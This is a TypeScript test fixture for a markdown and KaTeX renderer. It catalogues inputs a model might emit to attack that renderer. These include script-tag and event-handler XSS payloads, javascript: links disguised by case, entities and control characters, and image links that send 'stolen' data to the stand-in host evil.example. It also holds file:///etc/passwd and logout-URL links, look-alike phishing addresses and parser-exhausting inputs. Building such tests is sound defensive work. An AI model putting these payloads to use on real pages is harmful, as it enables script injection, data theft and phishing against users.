/** What a model may write that means harm, or that merely takes a parser to its end; by a name of its own. */
export interface Attack {
  readonly name: string;
  readonly text: string;
}

/** Runs where any of it gets through: the page's title would tell. */
const run = "document.title='pwned'";
/** A host that must never be asked. */
const evil = 'https://evil.example';

const html: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'script of another host': `<script src="${evil}/x.js"></script>`,
  'script in the middle of a word': `a<script>${run}</script>b`,
  'script in capitals with a space': `<SCRIPT >${run}</SCRIPT >`,
  'script that is never closed': `<script>${run}`,
  'script after a blank line in a div': `<div>\n\n<script>${run}</script>\n\n</div>`,
  'image with onerror': `<img src=x onerror="${run}">`,
  'image with a slash for a space': `<img/src=x/onerror=${run}>`,
  'svg with onload': `<svg onload="${run}"></svg>`,
  'svg with a script': `<svg><script>${run}</script></svg>`,
  'svg with an animated link': `<svg><a><animate attributeName=href values="javascript:${run}"/><text>x</text></a></svg>`,
  iframe: `<iframe src="${evil}"></iframe>`,
  'iframe with a document': `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  object: `<object data="${evil}/x.swf"></object><embed src="${evil}/y">`,
  'details that open themselves': `<details open ontoggle="${run}">x</details>`,
  'input that takes the focus': `<input autofocus onfocus="${run}">`,
  video: `<video src="${evil}/v" onerror="${run}" autoplay></video><audio src="${evil}/a" autoplay></audio>`,
  'form to another host': `<form action="${evil}"><button>Sign in</button></form>`,
  'base and meta': `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}">`,
  'style and link': `<style>@import url(${evil}/s.css); * { display: none }</style><link rel=stylesheet href="${evil}/l.css">`,
  'style that covers the page': `<div style="position:fixed;inset:0;background:url(${evil}/b.png)">x</div>`,
  'comment that hides a script': `<!-- --><script>${run}</script><!-- -->`,
  'comment that is closed too early': `<!--><script>${run}</script>-->`,
  'CDATA and processing instruction': `<![CDATA[<script>${run}</script>]]> <?php echo 1 ?> <!DOCTYPE html>`,
  'template, math and mtext': `<math><mtext><table><mglyph><style><img src onerror="${run}"></style></mglyph></table></mtext></math>`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  'entities that become a tag': `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;`,
  'numeric entities without end': '&#x26;#x3C;script&#x26;#x3E; &#0; &#x110000; &#99999999999;',
  'a tag in a heading, a list and a table': `# <img src=x onerror=${run}>\n\n- <svg onload=${run}>\n\n| <script>${run}</script> |\n| - |\n| <iframe src=${evil}> |`,
  'HTML in code': `\`<script>${run}</script>\`\n\n\`\`\`html\n<script>${run}</script>\n</code></pre><img src=x onerror=${run}>\n\`\`\``,
};

const links: Readonly<Record<string, string>> = {
  javascript: `[x](javascript:${run})`,
  'javascript in mixed case': `[x](JaVaScRiPt:${run})`,
  'javascript after a space': `[x]( javascript:${run})`,
  'javascript in angle brackets': `[x](<javascript:${run}>)`,
  'javascript by entities': `[x](&#106;avascript:${run}) [y](javascript&colon;${run}) [z](java&#x0A;script:${run})`,
  'javascript by percent signs': `[x](javascript%3A${run}) [y](%6A%61vascript:${run})`,
  'javascript with a tab and a line end': '[x](java\tscript:alert(1)) [y](<java\nscript:alert(1)>)',
  'javascript with a control character': '[x](\u0001javascript:alert(1)) [y](\u200bjavascript:alert(1))',
  'javascript by a definition': `[x]\n\n[x]: javascript:${run}`,
  'javascript by a definition before its use': `[x]: <javascript:${run}> "title"\n\n[click][x] and ![picture][x]`,
  'javascript as an autolink': `<javascript:${run}> javascript:${run}`,
  vbscript: '[x](vbscript:msgbox(1))',
  'data of HTML': `[x](data:text/html,<script>opener.${run}</script>) [y](data:text/html;base64,PHNjcmlwdD4x)`,
  'data of a picture with a script': '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  'file, blob and about': '[a](file:///etc/passwd) [b](blob:x) [c](about:blank) [d](view-source:x)',
  'an address that closes its attribute': `[x](https://ok.example/"onmouseover="${run}) [y](https://ok.example/'><script>${run}</script>)`,
  'a title that closes its attribute': `[x](https://ok.example '" onclick="${run}')`,
  'another host without a scheme': '[x](//evil.example/a) [y](\\\\evil.example) ![z](//evil.example/b.png)',
  'our own addresses': '[out](/api/auth/logout) ![out](/api/auth/logout) ![up](/api/media/../me) [x](#) [y](?a=1)',
  'a name in an address': '[bank](https://bank.example@evil.example/) <https://bank.example@evil.example/>',
  'look-alike letters': '[аpple](https://аpple.example) https://аpple.example',
  autolinks: 'www.evil.example https://evil.example/?q=<script> mailto:a@b.example a@b.example ftp://evil.example',
  'a link around a picture': `[![x](${evil}/p.png)](javascript:${run})`,
};

const pictures: Readonly<Record<string, string>> = {
  'picture of another host': `![x](${evil}/secret.png?d=stolen)`,
  'picture by a definition': `![x][p]\n\n[p]: ${evil}/p.png`,
  'picture with a name and a password': `![x](https://a:b@evil.example/p.png)`,
  'picture over plain HTTP': '![x](http://evil.example/p.png)',
  'picture that pretends to be ours': `![x](${evil}/api/media/abc) ![y](//evil.example/api/media/abc)`,
  'picture in a table and a quote': `| ![a](${evil}/a.png) |\n| - |\n\n> ![b](${evil}/b.png)`,
};

const maths: Readonly<Record<string, string>> = {
  href: `$$\\href{javascript:${run}}{x}$$ and \\(\\href{${evil}}{y}\\)`,
  url: `$$\\url{javascript:${run}}$$`,
  htmlData: '$$\\htmlData{x=1}{a} \\htmlId{y}{b} \\htmlClass{z}{c} \\htmlStyle{position:fixed}{d}$$',
  includegraphics: `$$\\includegraphics[height=1em]{${evil}/p.png}$$`,
  'a macro that doubles itself': '$$\\def\\a{\\a\\a}\\a$$ and $$\\newcommand\\b{\\b\\b}\\b$$',
  'a rule as large as the world': '$$\\rule{1000000em}{1000000em}$$ $$\\kern{99999em}x$$',
  'HTML in TeX': `$$\\text{<img src=x onerror=${run}>}$$ $<script>${run}</script>$`,
  'maths that is none': '$$\\frac{$$ $\\undefined{x}$ \\[ \\begin{matrix} \\]',
  'deep maths': `$$${'{'.repeat(3_000)}x${'}'.repeat(3_000)}$$ $$${'\\sqrt{'.repeat(500)}x${'}'.repeat(500)}$$`,
};

const times = (count: number, text: string): string => text.repeat(count);

const heavy: Readonly<Record<string, string>> = {
  'nested quotes': `${times(5_000, '> ')}x`,
  'nested lists in one line': `${times(3_000, '- ')}x`,
  'nested lists by indentation': Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n'),
  'nested emphasis': `${times(4_000, '*a _b ')}x`,
  'emphasis that is never closed': times(9_000, '**a '),
  'brackets that are never closed': times(9_900, '['),
  'brackets of pictures': times(4_900, '!['),
  'links in links': `${times(2_000, '[a](')}x${times(2_000, ')')}`,
  'backticks of every length': Array.from({ length: 130 }, (_, length) => `${'`'.repeat(length + 1)}a`).join(' '),
  'half an autolink': times(9_000, '<a@'),
  'underscores and tildes': times(4_500, '_~'),
  'entities without end': times(4_900, '&#'),
  'spaces before a line end': `a${' '.repeat(9_000)}\nb`,
  'a fence that is never closed': `\`\`\`js\n${times(3_000, '// x\n')}`,
  'code that its grammar takes long for': `\`\`\`perl\n${times(2_000, 'q{')}\n\`\`\`\n\n\`\`\`xml\n${times(3_000, '<a ')}\n\`\`\``,
  'a word without an end': times(20_000, 'a'),
  'a table of 10,000 cells': `|${times(20, ' a |')}\n|${times(20, ' - |')}\n${times(499, `|${times(20, ' x |')}\n`)}`,
  'a table of a thousand columns': `|${times(1_000, ' a |')}\n|${times(1_000, ' - |')}\n|${times(1_000, ' x |')}`,
  'many definitions': Array.from({ length: 1_500 }, (_, index) => `[d${index}]: https://ok.example/${index}`).join(
    '\n',
  ),
  'many notes': Array.from({ length: 300 }, (_, index) => `x[^${index}]\n\n[^${index}]: y\n\n`).join(''),
  'bidi overrides': 'a \u202Egnp.exe\u202C b \u2066\u2067\u2068 c \u202Btxet\u202C\u200F\u200E and \u061C',
  'null bytes and controls': 'a\u0000b \u0007 \u001b[31m \ufffe \ud800 c',
  'marks upon marks': `Z${'\u0351\u0352\u0353\u0354'.repeat(400)}algo`,
  'the mark of a stub': '[^1]: \u{e000}\n\nx[^1] \u{e000}',
  'names of properties':
    '[__proto__]: https://ok.example\n\n[__proto__] [constructor] [^toString]\n\n```__proto__\nx\n```',
};

const named = (group: string, texts: Readonly<Record<string, string>>): readonly Attack[] =>
  Object.entries(texts).map(([name, text]) => ({ name: `${group}: ${name}`, text }));

export const attacks: readonly Attack[] = [
  ...named('HTML', html),
  ...named('link', links),
  ...named('picture', pictures),
  ...named('maths', maths),
  ...named('heavy', heavy),
];
